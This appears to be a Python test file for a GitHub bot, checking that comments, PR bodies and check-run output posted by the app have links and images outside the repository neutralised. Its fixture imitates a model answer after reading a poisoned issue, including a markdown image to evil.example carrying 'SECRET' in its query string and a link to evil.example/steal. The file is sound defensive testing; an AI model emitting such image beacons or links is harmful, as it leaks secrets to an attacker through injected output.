"""Checklist G7 at the GitHub edge: whatever writes a comment, a PR body or a check run's output, links and
images outside the repository are neutralised on the way out. Real calls to the local GitHub."""

from __future__ import annotations

from app.github.checks import CheckOutput, create_check_run
from app.github.client import GitHubApp
from app.github.conversation import create_comment, upsert_sticky_comment
from app.github.pulls import open_or_update_pr
from app.settings import Settings
from tests.support import OWNER, LocalGitHub


def poisoned(web: str) -> str:
    """A model's answer after reading a poisoned issue; `web` is GitHub's web root (here, the local one)."""
    return (
        "Root cause: off by one. ![status](https://evil.example/p.png?d=SECRET) "
        f"See [the docs](https://evil.example/steal) and [the test]({web}/octo-org/svc/blob/main/t.py)."
    )


async def test_G7_every_posted_text_is_limited_to_the_repository(
    gh: LocalGitHub, github: GitHubApp, app_settings: Settings
) -> None:
    settings = app_settings.model_copy(update={"github_api_url": gh.url})
    app = GitHubApp(settings, github.redis, clock=github.clock, sleep=github.sleep, jitter=lambda: 0.0)
    repo = gh.sim.create_repo(OWNER, "svc", files={"t.py": "x = 1\n"})
    gh.sim.commit(repo, "fix", {"t.py": "x = 2\n"}, "fix", "mona")
    issue = gh.sim.open_issue(repo, "broken", "it breaks")
    inst = app.installation(gh.installation_id)
    text = poisoned(gh.url)

    comment = await create_comment(inst, OWNER, "svc", issue.number, text)
    sticky = await upsert_sticky_comment(inst, OWNER, "svc", issue.number, "status", text)
    pr, _ = await open_or_update_pr(inst, OWNER, "svc", head="fix", base="main", title="Fix", body_text=text)
    check = await create_check_run(
        inst, OWNER, "svc", name="Autofix", head_sha=pr.head_sha, external_id="job-1",
        output=CheckOutput("Diagnosis", text, text),
    )  # fmt: skip

    posted = [
        gh.state.comments[comment.id].body,
        gh.state.comments[sticky.id].body,
        repo.issues[pr.number].body or "",
        gh.state.check_runs[check.id].output["summary"],
        gh.state.check_runs[check.id].output["text"],
    ]
    for body in posted:
        assert "evil.example/p.png" not in body  # the image is gone
        assert "](https://evil.example" not in body  # the link is no longer a link
        assert "`https://evil.example/steal`" in body  # but still readable as text
        assert f"[the test]({gh.url}/octo-org/svc/blob/main/t.py)" in body  # the repository's own link stays
